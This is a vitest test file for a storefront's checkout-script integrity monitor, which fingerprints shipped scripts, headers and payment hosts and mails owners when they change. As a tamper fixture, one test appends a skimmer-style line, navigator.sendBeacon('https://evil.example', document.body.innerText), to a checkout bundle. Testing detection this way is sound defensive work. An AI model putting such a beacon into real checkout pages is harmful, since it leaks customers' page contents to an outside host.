import { CHECKOUT_SCRIPT_LIMITS } from "@stoa/core/checkout-script/checkout-script-limits.ts";
import type { CheckoutScripts } from "@stoa/core/checkout-script/checkout-script-api.ts";
import { CATALOGUES } from "@stoa/core/message/catalogues.ts";
import { appendFileSync, cpSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { brotliCompressSync } from "node:zlib";
import { Client } from "pg";
import { afterAll, expect, test } from "vitest";
import { inPlatform, inSite } from "../../db/database.ts";
import { openTestApp, signInToStudio, TEST_HOST, type TestBrowser } from "../../testing/test-app.ts";
import { TestShop } from "../cart/testing/test-shop.ts";
import { setPreferences } from "../checkout/testing/test-buyer.ts";
import { editDocument, listDocuments } from "../document/document-service.ts";
import { NO_HOSTS, safeHeaders, STOREFRONT_FOLDER } from "../page/system-page-service.ts";
import { giveStripeAccount } from "../payment/testing/started-payment.ts";
import { checkAllScripts, checkScripts } from "./checkout-script-service.ts";
import { listSitesToCheck } from "./checkout-script-store.ts";
import { startScriptWatch } from "./script-watch.ts";
import { fingerprintOf, openShippedScripts, type ShippedScripts } from "./shipped-scripts.ts";

const testApp = await openTestApp();
const { database, parts } = testApp;
const TEXTS = CATALOGUES.en.checkoutScript;
const START = Date.UTC(2026, 2, 2, 12);
const DAY_MS = 24 * 60 * 60_000;

const folder = mkdtempSync(path.join(tmpdir(), "stoa-scripts-"));
afterAll(() => rmSync(folder, { recursive: true, force: true }));
let copies = 0;

/** A copy of the build, which a test may change. */
function copyBuild(): string {
  copies += 1;
  const copy = path.join(folder, String(copies));
  cpSync(STOREFRONT_FOLDER, copy, { recursive: true });
  return copy;
}

type Mail = { readonly subject: string; readonly text: string; readonly recipient: string };

type Store = {
  readonly shop: TestShop;
  readonly ownerEmail: string;
  readonly studio: TestBrowser;
  readonly check: (shipped?: ShippedScripts, days?: number) => Promise<void>;
  readonly read: () => Promise<CheckoutScripts>;
  readonly mails: () => Promise<Mail[]>;
};

const SHIPPED = openShippedScripts();

async function openStore(): Promise<Store> {
  const testSite = await testApp.createTestSite();
  const shop = new TestShop(testApp, testSite.site);
  await shop.addProduct();
  const studio = await signInToStudio(testApp, testSite);
  const { id } = testSite.site;
  return {
    shop,
    ownerEmail: testSite.ownerEmail,
    studio,
    check: (shipped = SHIPPED, days = 0) =>
      checkScripts(
        { inItsSite: (work) => inSite(database, id, work) },
        { ...parts, shipped, now: () => START + days * DAY_MS },
      ),
    read: async () => (await studio.get("/api/studio/checkout-scripts")).json() as CheckoutScripts,
    mails: () =>
      inSite(database, id, (db) =>
        db.text(
          `select subject, text_body as text, to_address as recipient from mail
           where site_id = $1 and kind = 'checkout-script.changed' order by number`,
          [id],
        ),
      ),
  };
}

async function switchOnStripe({ shop }: Store): Promise<void> {
  const account = { publishableKey: "pk_live_1", secretKey: "sk_live_1", webhookSecret: "whsec_1" };
  await giveStripeAccount(parts, shop.site.id, account as Parameters<typeof giveStripeAccount>[2]);
  await setPreferences(shop, "payments", { isTestMode: false, stripe: { isEnabled: true, accountCountry: "US" } });
}

async function publishOrderCode({ shop }: Store, code: string): Promise<void> {
  await inSite(database, shop.site.id, async (db) => {
    const [settings] = await listDocuments(db, "settings");
    const patches = [
      { op: "add" as const, path: ["injection"], value: { header: "", footer: "", item: "", orderConfirmation: code } },
    ];
    const edit = { id: settings?.id ?? "", kind: "settings" as const, version: undefined, patches, label: "", by: "" };
    await editDocument(db, edit);
  });
  await shop.publish();
}

/** Removes the comparisons that wait, and returns how many there were. */
async function forgetJobs({ shop }: Store): Promise<number> {
  const client = new Client(testApp.admin);
  await client.connect();
  try {
    const { rowCount } = await client.query(
      `delete from graphile_worker._private_jobs where payload ->> 'siteId' = $1 and key like '%:checkout-script.check:%'`,
      [shop.site.id],
    );
    return rowCount ?? 0;
  } finally {
    await client.end();
  }
}

const idsOf = ({ scripts }: CheckoutScripts): string[] => scripts.map(({ id }) => id);
const kindsOf = ({ history }: CheckoutScripts): string[][] =>
  history.map(({ changes }) => changes.map(({ id, kind }) => `${id} ${kind}`));

test("the first list is recorded without a mail: the scripts of the build and the headers", async () => {
  const store = await openStore();
  expect(await store.read()).toEqual({ scripts: [], checkedAt: null, history: [] });
  await store.check();
  const list = await store.read();
  expect([idsOf(list), kindsOf(list), await store.mails()]).toEqual([["stoa", "headers"], [[]], []]);
  const files = list.scripts[0]?.parts.map(({ name }) => name) ?? [];
  expect(files.some((name) => name.startsWith("checkout-island"))).toBe(true);
  expect(files.some((name) => /^(?:preview|runtime)/u.test(name) || !name.endsWith(".js"))).toBe(false);
});

test("the listed headers are those of the checkout page", async () => {
  const store = await openStore();
  await store.check();
  const tab = { "sec-fetch-dest": "document", "sec-fetch-mode": "navigate" };
  const { status, headers } = await testApp.browse(store.shop.host).get("/account", tab);
  const sent = safeHeaders({ visit: { origin: `http://${store.shop.host}` }, look: "", hosts: NO_HOSTS });
  const plain = (text: unknown): string => String(text).replace(/'sha256-[^']*'/u, "'look'");
  expect(status).toBe(200);
  for (const [name, value] of Object.entries(sent)) expect([name, plain(headers[name])]).toEqual([name, plain(value)]);
  const { scripts } = await store.read();
  expect(scripts[1]?.parts.map(({ name }) => name)).toEqual(Object.keys(sent));
});

test("a site where nobody can pay keeps no list, and is not checked each day", async () => {
  const { site } = await testApp.createTestSite();
  await checkScripts({ inItsSite: (work) => inSite(database, site.id, work) }, { ...parts, shipped: SHIPPED });
  const rows = await inSite(database, site.id, (db) =>
    db.text("select 1 from checkout_script where site_id = $1", [site.id]),
  );
  expect(rows).toEqual([]);
  expect(await inPlatform(database, listSitesToCheck)).not.toContain(site.id);
});

test("each release is compared, and each change of how customers pay", async () => {
  const store = await openStore();
  const { shop } = store;
  await forgetJobs(store);
  await shop.draftProduct();
  await shop.publish();
  expect(await forgetJobs(store)).toBe(1);
  await setPreferences(shop, "checkout", { isNoteAllowed: false });
  expect(await forgetJobs(store)).toBe(0);
  await setPreferences(shop, "payments", { manual: { isEnabled: true, title: "Transfer", instructions: "" } });
  expect(await forgetJobs(store)).toBe(1);
});

test("Stripe switched on is recorded, and mailed once to each admin", async () => {
  const store = await openStore();
  await store.check();
  await switchOnStripe(store);
  await store.shop.addProduct();
  await store.check();
  await store.check();
  const list = await store.read();
  expect([idsOf(list), kindsOf(list)]).toEqual([
    ["stoa", "headers", "stripe"],
    [["stripe provider"], []],
  ]);
  expect(list.scripts[2]?.hosts).toContain("https://js.stripe.com");
  const mails = await store.mails();
  expect(mails.map(({ recipient }) => recipient)).toEqual([store.ownerEmail]);
  expect(mails[0]?.subject).toContain(TEXTS.providerSubject);
  for (const text of [TEXTS.nameStripe, TEXTS.kindProviderOn, TEXTS.providerAdvice, "/checkout-settings"]) {
    expect(mails[0]?.text).toContain(text);
  }
});

test("a file changed on the disk without a new version is found and mailed once", async () => {
  const store = await openStore();
  const copy = copyBuild();
  const shipped = openShippedScripts(copy);
  await store.check(shipped);
  const [name = ""] =
    (await store.read()).scripts[0]?.parts
      .map((part) => part.name)
      .filter((one) => one.startsWith("checkout-island")) ?? [];
  appendFileSync(path.join(copy, name), "navigator.sendBeacon('https://evil.example', document.body.innerText)");
  await store.check(shipped, 1);
  await store.check(shipped, 2);
  expect((await store.read()).history[0]).toMatchObject({ changes: [{ id: "stoa", kind: "files", parts: [name] }] });
  const mails = await store.mails();
  expect(mails.map(({ recipient }) => recipient)).toEqual([store.ownerEmail]);
  expect(mails[0]?.subject).toContain(TEXTS.alarmSubject);
  for (const text of [name, TEXTS.kindFiles, TEXTS.alarmAdvice]) expect(mails[0]?.text).toContain(text);
});

test.each([
  [
    "a compressed copy with other content",
    (copy: string, name: string) => writeFileSync(path.join(copy, `${name}.br`), brotliCompressSync("evil()")),
    ".br",
  ],
  ["a file that is gone", (copy: string, name: string) => rmSync(path.join(copy, name)), ""],
])("%s is found", async (_title, change, end) => {
  const store = await openStore();
  const copy = copyBuild();
  const shipped = openShippedScripts(copy);
  await store.check(shipped);
  const name = (await store.read()).scripts[0]?.parts[0]?.name ?? "";
  change(copy, name);
  await store.check(shipped);
  expect((await store.read()).history[0]?.changes).toMatchObject([{ kind: "files", parts: [name + end] }]);
});

test("whoever changes the mark of the build beside a file changes no version until a restart", async () => {
  const store = await openStore();
  const copy = copyBuild();
  const shipped = openShippedScripts(copy);
  await store.check(shipped);
  const name = (await store.read()).scripts[0]?.parts[0]?.name ?? "";
  appendFileSync(path.join(copy, name), "//");
  writeFileSync(path.join(copy, ".stoa-stamp"), "another build");
  await store.check(shipped);
  expect(kindsOf(await store.read())[0]).toEqual(["stoa files"]);
});

test("while servers have two versions, both are recorded and none is mailed", async () => {
  const store = await openStore();
  const [older, newer] = [copyBuild(), copyBuild()];
  writeFileSync(path.join(newer, ".stoa-stamp"), "another build");
  const nodes = [openShippedScripts(older), openShippedScripts(newer)];
  for (const node of [...nodes, ...nodes]) await store.check(node);
  expect(kindsOf(await store.read())).toEqual([["stoa version"], ["stoa version"], ["stoa version"], []]);
  expect(await store.mails()).toEqual([]);
});

test("servers of one version that differ are mailed once a week each, however often they are compared", async () => {
  const store = await openStore();
  const changed = copyBuild();
  const nodes = [SHIPPED, openShippedScripts(changed)];
  const { scripts } = await store.check().then(store.read);
  appendFileSync(path.join(changed, scripts[0]?.parts[0]?.name ?? ""), "//");
  for (let day = 0; day < 4; day += 1) for (const node of nodes) await store.check(node, day / 4);
  expect(await store.mails()).toHaveLength(2);
  await store.check(SHIPPED, 14);
  expect(await store.mails()).toHaveLength(3);
});

test("the owner's code of the confirmation page is recorded, and not mailed", async () => {
  const store = await openStore();
  await store.check();
  await publishOrderCode(store, "<script>one()</script>");
  await store.check();
  await publishOrderCode(store, "<script>two()</script>");
  await store.check();
  const list = await store.read();
  expect(kindsOf(list)).toEqual([["order-code order-code"], ["order-code order-code"], []]);
  expect(list.scripts.at(-1)?.parts).toEqual([
    { name: "orderConfirmation", fingerprint: fingerprintOf("<script>two()</script>") },
  ]);
  expect(await store.mails()).toEqual([]);
});

test("a stand-in for Stripe's script is a host that belongs to nobody", async () => {
  const store = await openStore();
  await store.check();
  await switchOnStripe(store);
  await checkScripts(
    { inItsSite: (work) => inSite(database, store.shop.site.id, work) },
    { ...parts, env: { ...parts.env, stripeScript: "http://localhost:9/stripe.js" }, shipped: SHIPPED },
  );
  expect(kindsOf(await store.read())[0]).toEqual(["http://localhost:9 host"]);
  expect((await store.mails())[0]?.subject).toContain(TEXTS.alarmSubject);
});

test("every day each store with a list is compared, which is noted without a change", async () => {
  const store = await openStore();
  await store.check();
  const now = START + 3 * DAY_MS;
  await checkAllScripts(
    { database, signal: new AbortController().signal },
    { ...parts, shipped: SHIPPED, now: () => now },
  );
  const list = await store.read();
  expect([list.checkedAt, list.history.length]).toEqual([new Date(now).toISOString(), 1]);
});

test("each node compares its own disk every day, and goes on when that failed", async () => {
  const store = await openStore();
  await store.check();
  let days = 0;
  const failures: string[] = [];
  const done = Promise.withResolvers<void>();
  const watch = startScriptWatch({
    ...parts,
    shipped: {
      version: SHIPPED.version,
      read: () => (days === 1 ? Promise.reject(new Error("The disk is gone.")) : SHIPPED.read()),
    },
    now: () => START + days * DAY_MS,
    log: { error: (_details, message) => failures.push(message) },
    wait: async () => {
      days += 1;
      if (days <= 3) return;
      done.resolve();
      await new Promise<void>((resolve) => setImmediate(resolve));
    },
  });
  await done.promise;
  await watch.stop();
  expect(failures).toHaveLength(1);
  expect((await store.read()).checkedAt).toBe(new Date(START + 3 * DAY_MS).toISOString());
});

test("the last 50 changes of two years are kept, and always the present list", async () => {
  const store = await openStore();
  const { changes: kept, days } = CHECKOUT_SCRIPT_LIMITS;
  const versions = Array.from({ length: kept + 5 }, (_, index) => ({ ...SHIPPED, version: String(index) }));
  for (const [index, shipped] of versions.entries()) await store.check(shipped, index);
  expect((await store.read()).history.map(({ number }) => number)).toEqual(
    Array.from({ length: kept }, (_, index) => kept + 5 - index),
  );
  await store.check(versions.at(-1), kept + 10 + days);
  expect((await store.read()).history.map(({ number }) => number)).toEqual([kept + 5]);
});

test("the list is downloaded as CSV, a row for each file, header and host", async () => {
  const store = await openStore();
  await switchOnStripe(store);
  await store.check();
  const { status, headers, text } = await store.studio.get("/api/studio/checkout-scripts/csv");
  expect([status, headers["content-disposition"]]).toEqual([200, 'attachment; filename="checkout-scripts.csv"']);
  const { scripts } = await store.read();
  const count = scripts.reduce((sum, { parts: files, hosts }) => sum + files.length + hosts.length, 0);
  expect(text.trimEnd().split("\r\n")).toHaveLength(count + 1);
  expect(text).toContain(scripts[0]?.parts[0]?.fingerprint);
});

test("only members who may see payments read the list, and only that of their own site", async () => {
  const [store, other] = [await openStore(), await openStore()];
  await store.check();
  expect((await other.read()).scripts).toEqual([]);
  const foreign = testApp.browse(`${store.shop.site.slug}.studio.${TEST_HOST}`);
  for (const [name, value] of other.studio.cookies) foreign.cookies.set(name, value);
  for (const file of ["", "/csv"]) {
    expect((await foreign.get(`/api/studio/checkout-scripts${file}`)).status).toBe(401);
  }
  await inSite(database, store.shop.site.id, (db) =>
    db.run("update member set role = 4 where site_id = $1", [db.siteId]),
  );
  for (const file of ["", "/csv"]) {
    expect((await store.studio.get(`/api/studio/checkout-scripts${file}`)).status).toBe(403);
  }
});
